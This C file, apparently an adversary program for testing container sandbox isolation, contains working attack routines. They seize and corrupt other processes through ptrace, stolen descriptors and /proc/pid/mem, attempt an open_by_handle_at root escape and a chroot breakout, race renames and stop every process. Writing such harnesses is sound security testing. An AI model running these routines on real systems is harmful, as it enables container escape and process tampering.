/*
 * What a hostile process does inside a container. Static, so that it runs in any image:
 *
 *     gcc -static -O2 -Wall -Wextra -Werror -o attacker attacker.c
 *
 * attacker trace       with CAP_SYS_PTRACE: takes hold of every process that it sees, looks whether it has anything that the container has not, writes
 *                      rubbish into the descriptors and the memory that it can reach, and lets it go; a line on standard output for each find
 * attacker swap A B    exchanges two names without a moment's pause
 * attacker hold        traces every process that it sees, and never hears of its end
 * attacker handle      opens the root of the file system that the container's root lies on, by the handle that it always has; prints the errno
 * attacker stop        stops every process that it sees, at once
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned long long own_bounding;
static char own_seccomp[8];

static int slurp(int pid, const char *name, char *into, size_t size) {
  char path[128];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  ssize_t n = fd < 0 ? -1 : read(fd, into, size - 1);
  if (fd >= 0) close(fd);
  into[n > 0 ? n : 0] = 0;
  return n > 0;
}

static const char *field(const char *status, const char *name) {
  const char *at = strstr(status, name);
  return at ? at + strlen(name) + strspn(at + strlen(name), "\t ") : "";
}

static void link_of(int pid, const char *name, char *into, size_t size) {
  char path[128];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  ssize_t n = readlink(path, into, size - 1);
  into[n > 0 ? n : 0] = 0;
}

/* More rights than the container has, or a program, memory or a descriptor that is not the container's. */
static void look(int pid) {
  static char text[1 << 18];
  if (slurp(pid, "status", text, sizeof text)) {
    static const char *const sets[] = {"\nCapInh:", "\nCapPrm:", "\nCapEff:", "\nCapBnd:", "\nCapAmb:"};
    for (unsigned i = 0; i < sizeof sets / sizeof *sets; i++) {
      unsigned long long set = strtoull(field(text, sets[i]), NULL, 16);
      if (set & ~own_bounding) printf("%s %llx is more than the container's\n", sets[i] + 1, set);
    }
    const char *seccomp = field(text, "\nSeccomp:");
    if (*seccomp && strncmp(seccomp, own_seccomp, 1)) printf("Seccomp is %.1s\n", seccomp);
  }
  char target[4096], name[64];
  link_of(pid, "exe", target, sizeof target);
  if (strstr(target, "java") || strstr(target, "jvm")) printf("the program is %s\n", target);
  if (slurp(pid, "maps", text, sizeof text) && strstr(text, "libjvm")) puts("the shim's memory is mapped");
  static char environment[1 << 16];
  if (slurp(pid, "environ", environment, sizeof environment) && memmem(environment, sizeof environment, "PROA_", 5)) puts("the environment is the shim's");
  for (int fd = 3; fd < 128; fd++) {
    snprintf(name, sizeof name, "fd/%d", fd);
    link_of(pid, name, target, sizeof target);
    /* 3 is where the plan reports, until the program runs */
    if (*target && !(fd == 3 && !strncmp(target, "socket:", 7)) && strncmp(target, "/proc", 5)) printf("descriptor %d is %s\n", fd, target);
  }
}

/* Rubbish for whoever reads the other ends, and for memory that might be shared. */
static void spoil(int pid) {
  static char rubbish[4096];
  for (size_t i = 0; i < sizeof rubbish; i++) rubbish[i] = (char)rand();
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  for (int fd = 3; pidfd >= 0 && fd < 16; fd++) {
    int taken = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    if (taken < 0) continue;
    fcntl(taken, F_SETFL, O_NONBLOCK);
    if (write(taken, rubbish, 1 + rand() % sizeof rubbish) > 0) fputs("rubbish written\n", stderr);
    close(taken);
  }
  if (pidfd >= 0) close(pidfd);
  static char maps[1 << 16];
  if (!slurp(pid, "maps", maps, sizeof maps)) return;
  char path[128];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int mem = open(path, O_RDWR | O_CLOEXEC);
  for (char *line = maps; mem >= 0 && line && rand() % 2; line = strchr(line, '\n'), line = line ? line + 1 : NULL) {
    unsigned long from = strtoul(line, NULL, 16);
    if (pwrite(mem, rubbish, 64, (off_t)from) > 0) fputs("memory written\n", stderr);
  }
  if (mem >= 0) close(mem);
}

static int each(int *pids, int max) {
  DIR *d = opendir("/proc");
  int n = 0;
  struct dirent *e;
  while (d && n < max && (e = readdir(d))) {
    int pid = isdigit((unsigned char)e->d_name[0]) ? atoi(e->d_name) : 0;
    if (pid > 1 && pid != getpid()) pids[n++] = pid;
  }
  if (d) closedir(d);
  return n;
}

static void trace(void) {
  static char text[1 << 14];
  slurp(getpid(), "status", text, sizeof text);
  own_bounding = strtoull(field(text, "\nCapBnd:"), NULL, 16);
  snprintf(own_seccomp, sizeof own_seccomp, "%.1s", field(text, "\nSeccomp:"));
  puts("ready");
  fflush(stdout);
  for (unsigned long seized = 0;; ) {
    int pids[256], n = each(pids, 256);
    for (int i = 0; i < n; i++) {
      look(pids[i]);
      if (ptrace(PTRACE_SEIZE, pids[i], 0, 0) == 0) {
        if (++seized % 100 == 1) fprintf(stderr, "seized %lu\n", seized);
        ptrace(PTRACE_INTERRUPT, pids[i], 0, 0);
        int status;
        if (waitpid(pids[i], &status, __WALL) == pids[i] && WIFSTOPPED(status)) {
          look(pids[i]);
          if (rand() % 4 == 0) spoil(pids[i]);
          ptrace(PTRACE_DETACH, pids[i], 0, 0);
        }
      }
    }
    fflush(stdout);
  }
}

static void hold(void) {
  puts("ready");
  fflush(stdout);
  for (;;) {
    int pids[256], n = each(pids, 256);
    for (int i = 0; i < n; i++) {
      static char text[1 << 14];
      if (ptrace(PTRACE_SEIZE, pids[i], 0, 0) && slurp(pids[i], "status", text, sizeof text) && !strncmp(field(text, "\nState:"), "Z", 1)) {
        puts("held after its end");
        fflush(stdout);
        sleep(1);
      }
    }
  }
}

static void stop(void) {
  puts("ready");
  fflush(stdout);
  for (;;) {
    int pids[256], n = each(pids, 256);
    for (int i = 0; i < n; i++) kill(pids[i], SIGSTOP);
  }
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 2 && !strcmp(argv[1], "trace")) trace();
  if (argc == 2 && !strcmp(argv[1], "hold")) hold();
  if (argc == 2 && !strcmp(argv[1], "handle")) {
    struct { struct file_handle head; unsigned char bytes[8]; } root = {.head = {.handle_bytes = 8, .handle_type = 1}, .bytes = {2}};
    int mount = open("/", O_RDONLY | O_CLOEXEC);
    puts(open_by_handle_at(mount, &root.head, O_RDONLY) < 0 ? strerrorname_np(errno) : "opened");
    return 0;
  }
  if (argc == 2 && !strcmp(argv[1], "chroot")) {
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/below", 0700);
    if (chroot("/tmp/below") || fchdir(outside)) { perror("chroot"); return 1; }
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    execl("/bin/ls", "ls", "/", (char *)0);
    return 1;
  }
  if (argc == 2 && !strcmp(argv[1], "stop")) stop();
  if (argc == 4 && !strcmp(argv[1], "swap")) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */);
  }
  fputs("attacker trace|hold|handle|chroot|stop|swap A B\n", stderr);
  return 2;
}
